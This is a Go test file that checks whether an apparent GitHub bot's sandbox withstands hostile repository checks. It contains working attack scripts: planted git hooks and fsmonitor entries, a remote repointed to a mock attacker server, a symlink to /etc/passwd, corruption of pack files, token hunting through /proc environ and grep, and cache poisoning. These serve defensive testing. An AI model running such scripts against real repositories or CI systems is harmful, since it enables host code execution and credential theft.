package agents

import (
	"bytes"
	"crypto/sha256"
	"fmt"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/issuesmith/issuesmith/ghapp"
	"github.com/issuesmith/issuesmith/ghapp/ghtest"
	"github.com/issuesmith/issuesmith/internal/sandbox"
	"github.com/issuesmith/issuesmith/internal/sandbox/sandboxtest"
	"github.com/issuesmith/issuesmith/repo"
	"github.com/issuesmith/issuesmith/repo/gittest"
	"github.com/issuesmith/issuesmith/workflow"
)

// attackRig is the App's own host-side path around a sandboxed check:
// agents.Git's Checkout (the mirror, the worktree, the installation token
// from the fake GitHub), a command in the sandbox with the policy the
// coder's check runner uses (the bot's caches, the repository's key from
// the bot's record, StableDir), then the worktree's Commit and Push — against
// a real git http-backend that takes only the installation's tokens, and an
// attacker's server that records whatever reaches it.
type attackRig struct {
	gh       *ghtest.Server
	srv      *gittest.Server
	git      *Git
	caches   *sandbox.Caches
	cacheDir string // the repo.Cache's folder: mirrors and runs
	urls     map[string]string
	// marker is a folder outside every sandbox: a file appearing in it
	// means hostile code ran on the host.
	marker string
	// stolen counts requests to the attacker's server, and with
	// credentials the ones that carried an Authorization header.
	attacker            *httptest.Server
	stolen, credentials atomic.Int64
	seq                 atomic.Int64
}

func newAttackRig(t *testing.T, repos ...string) *attackRig {
	t.Helper()
	return newAttackRigOn(t, repo.BackendAuto, repos...)
}

// newAttackRigOn is newAttackRig with the git implementation forced: the
// App uses go-git, and the git command line for large repositories.
func newAttackRigOn(t *testing.T, backend repo.Backend, repos ...string) *attackRig {
	t.Helper()
	r := &attackRig{gh: ghtest.New(t, ghtest.Options{}), urls: map[string]string{}, marker: t.TempDir(), cacheDir: t.TempDir()}
	r.srv = gittest.NewServer(t, gittest.WithRepoTokenCheck(func(name, tok string) bool {
		owner, rp, _ := strings.Cut(name, "/")
		return r.gh.ValidToken(owner, rp, tok)
	}))
	for _, name := range repos {
		url := r.srv.Seed(t, name, map[string]string{"README.md": "# " + name + "\n", "main.sh": "echo hi\n"})
		owner, rp, _ := strings.Cut(name, "/")
		r.gh.AddRepo(ghtest.Repo{Owner: owner, Name: rp, CloneURL: url})
		r.urls[name] = url
	}
	r.attacker = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		r.stolen.Add(1)
		if req.Header.Get("Authorization") != "" {
			r.credentials.Add(1)
		}
		w.WriteHeader(http.StatusUnauthorized)
	}))
	t.Cleanup(r.attacker.Close)
	app, err := ghapp.NewApp(ghapp.AppConfig{AppID: r.gh.AppID(), PrivateKey: r.gh.PrivateKey(), BaseURL: r.gh.URL(),
		BotLogin: r.gh.BotLogin(), WriteInterval: -1, Backoff: time.Millisecond})
	require.NoError(t, err)
	cache, err := repo.NewCache(r.cacheDir, repo.CacheOptions{Backend: backend})
	require.NoError(t, err)
	r.git = NewGit(cache, AppCredentials{App: app}, repo.Signature{Name: "bot", Email: "bot@example.com"})
	r.caches, err = sandbox.NewCaches(t.TempDir(), sandbox.CacheOptions{})
	require.NoError(t, err)
	return r
}

// checkout is the App's checkout of name's branch for issue 1.
func (r *attackRig) checkout(t *testing.T, name string) workflow.Worktree {
	t.Helper()
	return r.checkoutBranch(t, name, "issuesmith/issue-1")
}

// checkoutBranch is the App's checkout of name's branch.
func (r *attackRig) checkoutBranch(t *testing.T, name, branch string) workflow.Worktree {
	t.Helper()
	owner, rp, _ := strings.Cut(name, "/")
	ref := workflow.RepoRef{InstallationID: r.gh.Installation(), Owner: owner, Repo: rp, Base: "main", CloneURL: r.urls[name],
		Job: fmt.Sprintf("attack-%d", r.seq.Add(1)), Blocked: []string{}}
	wt, err := r.git.Checkout(t.Context(), ref, branch)
	require.NoError(t, err)
	return wt
}

// check runs script under sh in the worktree as the coder's check runner
// does (coder.runner.command: the coder's policy with the repository's
// key from Workspace.Repository, StableDir), and returns its output.
func (r *attackRig) check(t *testing.T, ws *repo.Workspace, script string, env ...string) string {
	t.Helper()
	p := sandbox.Policy{Caches: r.caches, Repo: ws.Repository(), StableDir: true,
		Limits: sandbox.Limits{Wall: time.Minute}}
	cmd, err := p.Command(t.Context(), ws.Dir(), []string{"/bin/sh", "-c", script}, env)
	require.NoError(t, err)
	out, _ := cmd.CombinedOutput() // a hostile check's exit status is its own business
	return string(out)
}

// hostRan lists what hostile code left in the marker folder.
func (r *attackRig) hostRan(t *testing.T) []string {
	t.Helper()
	entries, err := os.ReadDir(r.marker)
	require.NoError(t, err)
	var ran []string
	for _, e := range entries {
		ran = append(ran, e.Name())
	}
	return ran
}

// tokenNowhere fails when any token the fake GitHub issued is in a file
// under dirs (mirrors, runs, caches).
func (r *attackRig) tokenNowhere(t *testing.T, dirs ...string) {
	t.Helper()
	toks := r.gh.IssuedTokens()
	for _, d := range dirs {
		_ = filepath.WalkDir(d, func(p string, e fs.DirEntry, err error) error {
			if err != nil || !e.Type().IsRegular() {
				return nil
			}
			data, err := os.ReadFile(p)
			if err != nil {
				return nil
			}
			for _, tok := range toks {
				require.False(t, bytes.Contains(data, []byte(tok)), "an installation token is stored in %s", p)
			}
			return nil
		})
	}
}

// packDigest is a digest of every object file of the mirrors (packs, or
// loose objects where a small fetch left them unpacked).
func (r *attackRig) packDigest(t *testing.T) string {
	t.Helper()
	h := sha256.New()
	n := 0
	err := filepath.WalkDir(filepath.Join(r.cacheDir, "mirrors"), func(p string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() || !strings.Contains(p, string(filepath.Separator)+"objects"+string(filepath.Separator)) {
			return err
		}
		data, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		n++
		h.Write([]byte(p))
		h.Write(data)
		return nil
	})
	require.NoError(t, err)
	require.NotZero(t, n, "the mirror holds no objects")
	return fmt.Sprintf("%x", h.Sum(nil))
}

// hostHook is a shell script that, run anywhere on the host, leaves name in
// the marker folder (inside a sandbox that folder does not exist).
func (r *attackRig) hostHook(name string) string {
	return fmt.Sprintf("#!/bin/sh\ntouch %s/%s\n", r.marker, name)
}

// attackRow is one hostile check: script is what it runs in the sandbox
// (T is the work tree's host path, which is also where the sandbox binds
// it), refused the error the App's Commit must answer (nil: the commit and
// the push go through, carrying only content), after any row-specific
// assertion. Every row also asserts: nothing ran on the host, nothing
// reached the attacker's server, the worktree's git directory and the
// mirror's packs are unchanged, and no token is stored in any file.
type attackRow struct {
	name, cite string
	script     func(r *attackRig, tree string) string
	env        []string
	refused    error
	after      func(t *testing.T, r *attackRig, out string, pushed map[string]string)
}

// plantGit writes into both places a bot's git could look: the tree's own
// .git and the worktree's real git directory beside the tree (which the
// sandbox does not bind: the writes land in the sandbox's own root or fail).
func plantGit(tree, body string) string {
	return fmt.Sprintf(`T=%q
for g in "$T/.git" "$(dirname "$T")/git"; do
  mkdir -p "$g/hooks" 2>/dev/null
  %s
done
echo changed >> "$T/README.md"
`, tree, body)
}

var attackRows = []attackRow{
	{
		name: "core.fsmonitor in the repository's config",
		cite: "CVE-2022-24765 (git runs core.fsmonitor from a config an untrusted party wrote); git 2.35.2 and 2.45.1 advisories",
		script: func(r *attackRig, tree string) string {
			return fmt.Sprintf("printf '%%s' %q > /tmp/fsm.sh; cp /tmp/fsm.sh \"$T/fsm.sh\" 2>/dev/null; chmod +x \"$T/fsm.sh\"\n",
				r.hostHook("fsmonitor")) + plantGit(tree, `printf '[core]\n\tfsmonitor = %s\n' "$T/fsm.sh" >> "$g/config"`)
		},
	},
	{
		name: "hooks: pre-commit, post-commit, pre-push, reference-transaction, post-checkout, post-index-change",
		cite: "CVE-2024-32002 (hooks planted through a repository run by git on the host); githooks(5)",
		script: func(r *attackRig, tree string) string {
			body := ""
			for _, h := range []string{"pre-commit", "post-commit", "pre-push", "reference-transaction", "post-checkout", "post-index-change"} {
				body += fmt.Sprintf("printf '%%s' %q > \"$g/hooks/%s\"; chmod +x \"$g/hooks/%s\"\n  ", r.hostHook(h), h, h)
			}
			body += `git config -f "$g/config" core.hooksPath "$g/hooks"`
			return plantGit(tree, body)
		},
	},
	{
		name: "origin repointed, url.insteadOf and a credential helper",
		cite: "ArtiPACKED (Unit 42, 2024): a token persisted in or steered by .git/config leaves with the push",
		script: func(r *attackRig, tree string) string {
			return plantGit(tree, fmt.Sprintf(`git config -f "$g/config" remote.origin.url %[1]s/leak.git
  git config -f "$g/config" remote.origin.pushurl %[1]s/leak.git
  git config -f "$g/config" url.%[1]s/.insteadOf http://
  git config -f "$g/config" credential.helper "!sh -c 'touch %[2]s/credential'"`, r.attacker.URL, r.marker))
		},
		after: func(t *testing.T, r *attackRig, _ string, _ map[string]string) {
			require.Zero(t, r.credentials.Load(), "an Authorization header reached the attacker")
		},
	},
	{
		name: "a nested repository with its own fsmonitor and hooks",
		cite: "CVE-2024-32002 and CVE-2024-32004 (embedded repositories whose config and hooks git then honours)",
		script: func(r *attackRig, tree string) string {
			return fmt.Sprintf(`cd %q && mkdir -p sub && cd sub && git init -q && echo data > file.txt
printf '%%s' %q > .git/hooks/post-commit; chmod +x .git/hooks/post-commit
git config core.fsmonitor "$PWD/.git/hooks/post-commit"
`, tree, r.hostHook("nested"))
		},
		after: func(t *testing.T, r *attackRig, _ string, pushed map[string]string) {
			require.Equal(t, "data\n", pushed["sub/file.txt"], "the nested files are content")
			for p := range pushed {
				require.NotContains(t, p, ".git/", "no git metadata is committed")
			}
		},
	},
	{
		name:    "symbolic links leaving the repository",
		cite:    "CWE-59 (link following); CVE-2024-32021 (git following a symlink out of the repository)",
		refused: repo.ErrUnsafeEntry,
		script: func(r *attackRig, tree string) string {
			return fmt.Sprintf("cd %q && ln -s /etc/passwd leak && ln -s ../git/config leak2 && echo x >> README.md\n", tree)
		},
	},
	{
		name: "a FIFO and a socket left in the tree",
		cite: "CWE-400: staging opens every file; a FIFO blocks the bot's commit for ever",
		script: func(r *attackRig, tree string) string {
			return fmt.Sprintf(`cd %q && mkfifo pipe && python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.bind("sock")' 2>/dev/null; echo x >> README.md
`, tree)
		},
		after: func(t *testing.T, r *attackRig, _ string, pushed map[string]string) {
			require.NotContains(t, pushed, "pipe")
			require.NotContains(t, pushed, "sock")
		},
	},
	{
		name: "rewriting the mirror's packs through the worktree's hard links",
		cite: "issue 33 item 7: a check rewrote the mirror's pack in place",
		script: func(r *attackRig, tree string) string {
			return fmt.Sprintf(`T=%q
for f in $(find / -path /proc -prune -o -path '*objects/pack/*' -type f -print 2>/dev/null) "$T"/.git/objects/pack/* "$(dirname "$T")"/git/objects/pack/*; do
  chmod u+w "$f" 2>/dev/null; echo junk >> "$f" 2>/dev/null; done
echo x >> "$T/README.md"
`, tree)
		},
	},
	{
		name: "hunting the installation token: environment, process table, every visible file",
		cite: "Codex cloud and Copilot keep the push token out of the agent's VM; CWE-522",
		env:  []string{"GITHUB_TOKEN=ghs_fromTheHostEnvironment", "GH_TOKEN=ghs_fromTheHostEnvironment"},
		script: func(r *attackRig, tree string) string {
			return fmt.Sprintf(`T=%q
{ env; cat /proc/*/environ; grep -rIhoa --exclude-dir=usr --exclude-dir=proc 'ghs_[A-Za-z0-9_]*\|x-access-token:[^ ]*' / 2>/dev/null | head -50; } > "$T/found.txt" 2>&1
echo x >> "$T/README.md"
`, tree)
		},
		after: func(t *testing.T, r *attackRig, _ string, pushed map[string]string) {
			found := pushed["found.txt"]
			require.NotEmpty(t, found, "the hunt ran")
			require.NotContains(t, found, "ghs_fromTheHostEnvironment", "a host secret reached the sandbox")
			for _, tok := range r.gh.IssuedTokens() {
				require.NotContains(t, found, tok, "an installation token reached the sandbox")
			}
		},
	},
}

// TestAttackMatrix runs each hostile check through the App's own
// checkout → sandboxed check → commit → push, with go-git and with the git
// command line (the App's backend for large repositories).
func TestAttackMatrix(t *testing.T) {
	t.Parallel()
	sandboxtest.Need(t)
	for _, backend := range []repo.Backend{repo.BackendGoGit, repo.BackendCLI} {
		for _, row := range attackRows {
			t.Run(string(backend)+"/"+row.name, func(t *testing.T) {
				t.Parallel()
				attack(t, newAttackRigOn(t, backend, "acme/app"), row)
			})
		}
	}
}

// attack runs row on r and asserts what every row asserts.
func attack(t *testing.T, r *attackRig, row attackRow) {
	t.Helper()
	wt := r.checkout(t, "acme/app")
	defer wt.Close()
	gitDir := wt.(*worktree).wt.GitDir()
	cfgBefore, err := os.ReadFile(filepath.Join(gitDir, "config"))
	require.NoError(t, err)
	packs := r.packDigest(t)
	out := r.check(t, wt.Workspace(), row.script(r, wt.Workspace().Dir()), row.env...)

	sha, changed, err := wt.Commit(t.Context(), "change")
	if row.refused != nil {
		require.ErrorIs(t, err, row.refused, "check said:\n%s", out)
		require.Empty(t, r.srv.Head(t, "acme/app", "issuesmith/issue-1"), "nothing was pushed")
	} else {
		require.NoError(t, err, "check said:\n%s", out)
		require.True(t, changed)
		require.NoError(t, wt.Push(t.Context()))
		require.Equal(t, sha, r.srv.Head(t, "acme/app", "issuesmith/issue-1"), "pushed to the repository the bot recorded")
	}
	require.Empty(t, r.hostRan(t), "hostile code ran on the host (check said:\n%s)", out)
	require.Zero(t, r.stolen.Load(), "a request reached the attacker's server")
	cfgAfter, err := os.ReadFile(filepath.Join(gitDir, "config"))
	require.NoError(t, err)
	require.Equal(t, string(cfgBefore), string(cfgAfter), "the worktree's git config changed")
	hooks, _ := os.ReadDir(filepath.Join(gitDir, "hooks"))
	for _, h := range hooks {
		require.True(t, strings.HasSuffix(h.Name(), ".sample"), "hook %s planted", h.Name())
	}
	require.Equal(t, packs, r.packDigest(t), "the mirror's packs changed")
	r.tokenNowhere(t, r.cacheDir, r.caches.Root())
	if row.after != nil {
		var pushed map[string]string
		if row.refused == nil {
			pushed = r.srv.Files(t, "acme/app", "issuesmith/issue-1")
		}
		row.after(t, r, out, pushed)
	}
}

// TestAttackCacheChoice: a check that rewrites its tree's git config to
// claim another repository, and poisons every cache it can write, never
// reaches that repository's caches: keys come from the bot's record of the
// repository, not from the tree. Before, the key was the tree's
// remote.origin.url (and "local" for every clone without one).
// GitHub Actions cache poisoning (Adnan Khan, 2024) is the public case.
func TestAttackCacheChoice(t *testing.T) {
	t.Parallel()
	sandboxtest.Need(t)
	r := newAttackRig(t, "acme/app", "other/victim")
	a := r.checkout(t, "acme/app")
	defer a.Close()
	// The first check claims the victim's origin; the run's next check
	// (the coder runs several) poisons whatever caches it is given.
	r.check(t, a.Workspace(), fmt.Sprintf(`mkdir -p .git && git config -f .git/config remote.origin.url %s`, r.urls["other/victim"]))
	out := r.check(t, a.Workspace(), `for d in "$GOCACHE" "$XDG_CACHE_HOME" "$XDG_CACHE_HOME/npm" "$XDG_CACHE_HOME/pip"; do
  mkdir -p "$d" && echo poison > "$d/poison"; done
echo "gocache=$GOCACHE xdg=$XDG_CACHE_HOME"`)
	require.Contains(t, out, "gocache=", out)

	b := r.checkout(t, "other/victim")
	defer b.Close()
	require.NotEqual(t, a.Workspace().Repository(), b.Workspace().Repository())
	seen := r.check(t, b.Workspace(), `find "$GOCACHE" "$XDG_CACHE_HOME" -name poison; echo done`)
	require.Equal(t, "done\n", seen, "the victim's caches hold the attacker's entries")
	again := r.checkout(t, "acme/app")
	defer again.Close()
	require.Contains(t, r.check(t, again.Workspace(), `find "$XDG_CACHE_HOME" -name poison`), "poison",
		"a repository keeps its own cache between runs (the key is stable)")
}

// TestTwoTenants: B's run beside a hostile A is identical to B's run
// alone.
func TestTwoTenants(t *testing.T) {
	t.Parallel()
	sandboxtest.Need(t)
	r := newAttackRig(t, "acme/app", "other/victim")
	benign := `echo built > out.txt; mkdir -p "$XDG_CACHE_HOME" && ls "$XDG_CACHE_HOME" > cache.txt; echo x >> README.md`
	runB := func(branch string) map[string]string {
		b := r.checkoutBranch(t, "other/victim", branch)
		defer b.Close()
		r.check(t, b.Workspace(), benign)
		_, _, err := b.Commit(t.Context(), "b")
		require.NoError(t, err)
		require.NoError(t, b.Push(t.Context()))
		return r.srv.Files(t, "other/victim", branch)
	}
	alone := runB("issuesmith/issue-1")
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		a := r.checkout(t, "acme/app")
		defer a.Close()
		var all strings.Builder
		for _, row := range attackRows {
			if row.refused == nil {
				all.WriteString("(" + row.script(r, a.Workspace().Dir()) + ") || true\n")
			}
		}
		r.check(t, a.Workspace(), all.String())
		_, _, _ = a.Commit(t.Context(), "a")
		_ = a.Push(t.Context())
	}()
	beside := runB("issuesmith/issue-2")
	wg.Wait()
	require.Equal(t, alone, beside, "B's result changed beside a hostile A")
	require.Empty(t, r.hostRan(t))
	require.Zero(t, r.stolen.Load())
}
